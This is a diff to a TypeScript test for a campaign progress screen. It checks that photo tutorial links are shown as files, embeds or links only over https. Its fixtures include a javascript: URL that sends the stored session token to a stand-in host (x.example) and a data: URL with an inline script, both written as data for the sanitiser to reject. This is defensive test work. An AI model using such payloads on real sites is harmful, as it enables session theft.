@@ -62,8 +62,8 @@ let fake: FakeFetch;
 useFakeFetch((created) => (fake = created), { quietErrors: true });
 
 /** `events`: stands in for window (the fresh-data events), set before the screen is created. */
-async function progressScreen(events?: EventTarget) {
-  await freshSignedInModules(fake, testSession());
+async function progressScreen(events?: EventTarget, config: Record<string, unknown> = {}) {
+  await freshSignedInModules(fake, testSession(), { config });
   const toasts = await captureToasts();
   const { createCampaignProgressScreen } = await import('../../../src/lib/screens/campaign-progress.ts');
   const photo = await import('../../../src/lib/stores/photo-upload.ts');
@@ -139,8 +139,8 @@ describe('campaign progress screen', () => {
     ]);
   });
 
-  it("a photo indicator's tutorial is a link only when the service's movieLink is https (product-rules R225)", async () => {
-    const { screen } = await progressScreen();
+  it("a photo indicator's tutorial plays in place from the config's video hosts, else is a link, and only over https (product-rules R225, R258)", async () => {
+    const { screen } = await progressScreen(undefined, { videoHosts: ['cdn.distribuidora.com.br', 'https://www.youtube-nocookie.com'] });
     const withLink = (id: number, movieLink: string | null) => ({ ...photoIndicator, id, name: `Foto ${id}`, movieLink });
     fake.expect(
       { method: 'GET', url: DATA, reply: json(data) },
@@ -150,10 +150,12 @@ describe('campaign progress screen', () => {
         reply: json(
           period(10104, [
             withLink(1, 'https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
-            withLink(2, 'javascript:fetch("//x.example?"+localStorage.getItem("portal:session:v1"))'),
-            withLink(3, 'http://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
-            withLink(4, 'data:text/html,<script>alert(1)</script>'),
-            withLink(5, null),
+            withLink(2, 'https://www.youtube.com/watch?v=dQw4w9WgXcQ'),
+            withLink(3, 'https://tutoriais.example.org/foto-freezer'),
+            withLink(4, 'javascript:fetch("//x.example?"+localStorage.getItem("portal:session:v1"))'),
+            withLink(5, 'http://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4'),
+            withLink(6, 'data:text/html,<script>alert(1)</script>'),
+            withLink(7, null),
           ]),
         ),
       },
@@ -161,9 +163,15 @@ describe('campaign progress screen', () => {
     screen.start({ id: '101' });
     const state = await settled(screen.$state);
     if (state.state !== 'ready' || state.view.current.state !== 'ready') throw new Error('not ready');
-    expect(state.view.current.period?.indicators.map((indicator) => ('tutorialUrl' in indicator ? indicator.tutorialUrl : 'none'))).toEqual(
-      ['https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4', null, null, null, null],
-    );
+    expect(state.view.current.period?.indicators.map((indicator) => ('tutorial' in indicator ? indicator.tutorial : 'none'))).toEqual([
+      { kind: 'file', src: 'https://cdn.distribuidora.com.br/tutoriais/foto-freezer.mp4' },
+      { kind: 'embed', src: 'https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ' },
+      { kind: 'link', href: 'https://tutoriais.example.org/foto-freezer' },
+      null,
+      null,
+      null,
+      null,
+    ]);
   });
 
   it('an unknown campaign (404) is not found; a bad id asks nothing', async () => {
